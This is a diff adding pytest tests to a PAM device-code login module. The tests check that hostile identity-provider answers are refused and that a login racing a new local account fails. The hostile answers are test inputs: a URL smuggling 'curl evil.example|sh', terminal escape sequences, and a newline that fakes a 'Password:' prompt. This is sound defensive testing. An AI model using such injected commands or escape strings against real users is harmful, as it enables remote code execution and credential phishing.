@@ -12,7 +12,9 @@ and groups never reach a passwd or group line unsanitized (every line getent pri
 field count, no control bytes, gecos capped).
 """
 import pathlib
+import shutil
 import subprocess
+import time
 
 import pytest
 
@@ -184,6 +186,90 @@ def test_hostile_preferred_username_in_id_token_refused(pam_stack, config, fake,
         # take (10 KB names); never success, never PAM_IGNORE (pam_permit follows).
         assert res.returncode != 0, res.stdout + res.stderr
         assert "Authentication failure" in res.stderr or "cannot retrieve" in res.stderr, res.stderr
+    assert db_bytes(state_dir) == b""
+
+
+# A devicecode answer from a hostile or broken IdP: the user code and URL would be printed on
+# the user's terminal ("open URL and enter the code CODE"). Each must be refused before any
+# text reaches the user, and no token request follows.
+HOSTILE_DEVICECODE = {
+    "http-uri": dict(verification_uri="http://evil.example/login"),
+    "uri-escape": dict(verification_uri="https://evil.example/\x1b[2J\x1b]0;pwned\x07"),
+    "uri-space": dict(verification_uri="https://microsoft.com/devicelogin and run curl evil.example|sh"),
+    "uri-overlong": dict(verification_uri="https://evil.example/" + "a" * 300),
+    "code-escape": dict(user_code="ABC\x1b[2JDEF"),
+    "code-newline": dict(user_code="ABC\nPassword:"),
+    "code-space": dict(user_code="ABC DEF"),
+    "code-overlong": dict(user_code="A" * 33),
+    "code-empty": dict(user_code=""),
+}
+
+
+def devicecode_answer(**over):
+    body = {"user_code": "ABCD-1234", "device_code": "DAQABIQEAAAD" + "x" * 400,
+            "verification_uri": "https://microsoft.com/devicelogin", "expires_in": 900, "interval": 5,
+            "message": "To sign in, open https://evil.example/login and enter the code EVIL."}
+    body.update(over)
+    return body
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE_DEVICECODE))
+def test_hostile_devicecode_answer_refused(pam_stack, config, fake, case):
+    pam_stack.write([f"auth required {PAM_MODULE} config={config} mode=device", "auth required pam_permit.so"])
+    fake.fault("devicecode", "status", status=200, body=devicecode_answer(**HOSTILE_DEVICECODE[case]))
+    res = pam_stack.run("alice@contoso.com", stdin="\n")
+    out = res.stdout + res.stderr
+    assert res.returncode != 0, out
+    assert "enter the code" not in out and "evil" not in out and "\x1b" not in out, out
+    assert "Press Enter" not in out, out
+    assert fake.requests("token") == []
+
+
+def test_devicecode_answer_at_the_limits_is_shown(pam_stack, config, fake):
+    # The boundary of the checks above: a 32-character code of letters, digits and '-', and a
+    # 256-byte https URL, are shown as they are (then the fake does not know the code).
+    code, uri = "ABCD-efgh-2345-" + "Z" * 17, "https://microsoft.com/" + "d" * 234
+    assert len(code) == 32 and len(uri) == 256
+    pam_stack.write([f"auth required {PAM_MODULE} config={config} mode=device", "auth required pam_permit.so"])
+    fake.fault("devicecode", "status", status=200, body=devicecode_answer(user_code=code, verification_uri=uri))
+    res = pam_stack.run("alice@contoso.com", stdin="\n")
+    out = res.stdout + res.stderr
+    assert res.returncode != 0, out
+    assert "open %s and enter the code %s" % (uri, code) in out, out
+
+
+def test_name_becoming_local_during_login_is_refused_not_ignored(tmp_path, pam_stack, fake, state_dir):
+    """A local account with the same name appears while the user signs in (after the module's
+    first look, before the binding is written): the login is refused (PAM_AUTH_ERR), never
+    PAM_IGNORE, which would leave the decision to pam_permit below."""
+    user = "alice@contoso.com"
+    passwd = tmp_path / "passwd"
+    shutil.copy("/etc/passwd", passwd)
+    fake.set_interval(2)    # test override: one pending poll leaves 2 s to add the local account
+    conf = write_config(tmp_path / "c.conf", fake, state_dir)
+    pam_stack.write([f"auth required {PAM_MODULE} config={conf} mode=device", "auth required pam_permit.so"])
+    pam_stack.prefix = lambda argv: ["unshare", "--mount", "sh", "-c",
+                                     'mount --make-rprivate / && mount --bind "$0" /etc/passwd && exec "$@"',
+                                     str(passwd), *argv]
+    fake.auto("approve", upn=user, after_polls=1, roles=[ADMIN_APP_ROLE])
+    p = pam_stack.popen(user)
+    try:
+        p.stdin.write("\n")
+        p.stdin.flush()
+        deadline = time.monotonic() + 20
+        while not fake.requests("token"):
+            assert time.monotonic() < deadline and p.poll() is None, "no token poll"
+            time.sleep(0.05)
+        with open(passwd, "a") as f:
+            f.write(user + ":x:4321:4321::/nonexistent:/usr/sbin/nologin\n")
+        out, err = p.communicate(timeout=60)
+    finally:
+        if p.poll() is None:
+            p.kill()
+            p.wait()
+    assert len(fake.requests("token")) == 2
+    assert p.returncode != 0, out + err
+    assert "Authentication failure" in err, err
     assert db_bytes(state_dir) == b""
 
 
